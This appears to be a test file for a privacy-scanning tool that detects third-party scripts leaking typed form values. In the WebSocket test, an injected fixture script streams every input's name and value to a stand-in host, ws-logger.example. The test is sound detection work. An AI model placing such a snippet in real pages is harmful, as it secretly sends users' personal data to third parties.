// Browser tier: typed values leaving through a third-party script's requests and WebSocket frames
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFormsCollector } from '../../../src/observe/behaviour/forms.ts';
import { createKeyLoggingCollector } from '../../../src/observe/behaviour/key-logging.ts';
import { createSessionReplayCollector } from '../../../src/observe/behaviour/session-replay.ts';
import { typedSentinels } from '../../../src/observe/behaviour/sentinels.ts';
import type { ObservedForm } from '../../../src/model/index.ts';
import type { ArmRuntimeState } from '../../../src/observe/runtime.ts';
import { leaks, runArm, sleep, startHarness, until, type Harness } from './harness.ts';

/** A bare WebSocket endpoint (handshake only; frames are read and dropped), reached as ws-logger.example. */
let wsServer: Server;
const wsSockets = new Set<Socket>();
let harness: Harness;
beforeAll(async () => {
  wsServer = createServer((_req, res) => res.writeHead(404).end());
  wsServer.on('upgrade', (req, socket: Socket) => {
    wsSockets.add(socket);
    const accept = createHash('sha1')
      .update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    socket.on('data', () => {});
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => wsServer.listen(0, '127.0.0.1', resolve));
  harness = await startHarness([
    `MAP ws-logger.example 127.0.0.1:${(wsServer.address() as AddressInfo).port}`,
  ]);
});
afterAll(async () => {
  await harness?.stop();
  for (const socket of wsSockets) socket.destroy();
  await new Promise((resolve) => wsServer?.close(resolve));
});

/** Every typed sentinel and each of its encodings: none may appear in any output. */
function sentinelNeedles(runtime: ArmRuntimeState): string[] {
  return typedSentinels(runtime.context).flatMap((sentinel) => [
    sentinel.value,
    ...sentinel.needles.map((n) => n.needle),
  ]);
}

describe('key logging collector', () => {
  it('catches a third-party script sending typed values (base64 body, SHA-256 URL) before submit', async () => {
    const {
      results: [hits],
      runtime,
    } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], {
      settle: () =>
        harness.web.waitForRequest(
          (r) => r.host === 'input-analytics.example' && r.path === '/v2/forms.js',
        ),
    });
    const typed = typedSentinels(runtime.context);
    // Email, full name, phone and the search box; never the password field.
    expect(typed.map((sentinel) => sentinel.fieldKind)).toEqual([
      'email',
      'name',
      'phone',
      'other',
    ]);
    const summary = hits.map((hit) => [
      hit.destinationHost,
      hit.fieldKind,
      hit.encoding,
      hit.carrier,
    ]);
    expect(summary).toEqual(
      expect.arrayContaining([
        ['input-analytics.example', 'email', 'base64', 'body'],
        ['input-analytics.example', 'name', 'base64', 'body'],
        ['input-analytics.example', 'phone', 'base64', 'body'],
        ['input-analytics.example', 'other', 'base64', 'body'],
        ['input-analytics.example', 'email', 'sha256', 'url'],
      ]),
    );
    expect(
      hits.every(
        (hit) =>
          hit.destinationHost === 'input-analytics.example' && hit.phase === 'before_consent',
      ),
    ).toBe(true);
    for (const hit of hits) expect(hit.tMs).toBeGreaterThan(0);
    // Nothing was submitted.
    expect(
      harness.web
        .requestsTo('keylogger-shop.example')
        .some((r) => r.path === '/order' || r.path === '/search'),
    ).toBe(false);
    expect(leaks(hits, sentinelNeedles(runtime))).toEqual([]);
  });

  it('does not count first-party requests or third parties that get no typed value', async () => {
    const {
      results: [hits],
      runtime,
    } = await runArm(harness, 'https://quiet-inputs.example/', [createKeyLoggingCollector()], {
      settle: () => sleep(300),
    });
    expect(typedSentinels(runtime.context).length).toBeGreaterThanOrEqual(3);
    // The typed name did leave the page — to the site itself.
    expect(harness.web.requestsTo('quiet-inputs.example').some((r) => r.path === '/suggest')).toBe(
      true,
    );
    expect(hits).toEqual([]);
  });

  it('catches typed values sent in WebSocket frames', async () => {
    // A test-side "site script": streams every input's value, as typed, over a WebSocket to a third party.
    const socketLogger = {
      name: 'socket-logger-script',
      install: async (runtime: ArmRuntimeState) => {
        await runtime.context.addInitScript({
          content: `(() => {
          const ws = new WebSocket('ws://ws-logger.example/stream');
          document.addEventListener('input', (event) => {
            if (ws.readyState === 1 && event.target && event.target.value) ws.send(JSON.stringify({ k: event.target.name, v: event.target.value }));
          }, true);
        })();`,
        });
      },
      collect: async () => null,
    };
    const {
      results: [, hits],
    } = await runArm(
      harness,
      'http://quiet-inputs.example/',
      [socketLogger, createKeyLoggingCollector()],
      {
        settle: () => sleep(300),
      },
    );
    expect(hits.map((hit) => [hit.destinationHost, hit.carrier, hit.encoding])).toEqual(
      expect.arrayContaining([['ws-logger.example', 'websocket', 'plain']]),
    );
    expect(new Set(hits.map((hit) => hit.fieldKind))).toEqual(
      new Set(['email', 'name', 'phone', 'other']),
    );
  });

  it('waits for the next upload of a session recorder that buffers what is typed (real rrweb, 3 s batches)', async () => {
    const {
      results: [, hits],
    } = await runArm(
      harness,
      'https://replay-rr-thirdparty.example/',
      [createSessionReplayCollector(), createKeyLoggingCollector()],
      {
        // The first PushPayload (after initializeSession) marks pub.highlight.io as a recording host.
        settle: () =>
          until(
            () =>
              harness.web.requestsTo('pub.highlight.io').filter((r) => r.method === 'POST')
                .length >= 2,
            10_000,
          ),
      },
    );
    // One upload carries both fields (rrweb records inputs unmasked here): each is a hit.
    expect(
      hits.map((hit) => [hit.destinationHost, hit.fieldKind, hit.carrier, hit.encoding]),
    ).toEqual(
      expect.arrayContaining([
        ['pub.highlight.io', 'other', 'body', 'plain'],
        ['pub.highlight.io', 'email', 'body', 'plain'],
      ]),
    );
    expect(hits.find((hit) => hit.fieldKind === 'other')?.searchField).toBe(true);
  });

  it('types and crops forms below the fold without the page hearing the scroll (tarteaucitron takes a scroll for consent)', async () => {
    // maple-rye-bakery: tarteaucitron with highPrivacy off accepts everything once the visitor
    // scrolls two screens; its newsletter form is in the footer.
    let scrollY = -1;
    let choice = '';
    let forms: ObservedForm[] = [];
    const {
      results: [hits],
      runtime,
    } = await runArm(harness, 'https://maple-rye-bakery.example/', [createKeyLoggingCollector()], {
      settle: (page) => page.waitForSelector('#tarteaucitronAlertBig', { state: 'visible' }),
      afterProbe: async (page, armRuntime) => {
        forms = await createFormsCollector().collect(armRuntime);
        await sleep(500);
        scrollY = await page.evaluate(() => window.scrollY);
        choice = await page.evaluate(() => document.cookie);
      },
    });
    expect(typedSentinels(runtime.context).length).toBeGreaterThan(0);
    expect(forms.some((form) => form.capture.status === 'captured')).toBe(true);
    expect(hits).toEqual([]);
    expect(scrollY).toBe(0);
    expect(choice).toContain('gtag=wait');
    expect(harness.web.requestsTo('connect.facebook.net')).toEqual([]);
  });

  it('collects nothing when the probe did not run', async () => {
    const {
      results: [hits],
    } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], {
      probe: false,
      settle: () => sleep(300),
    });
    expect(hits).toEqual([]);
  });
});
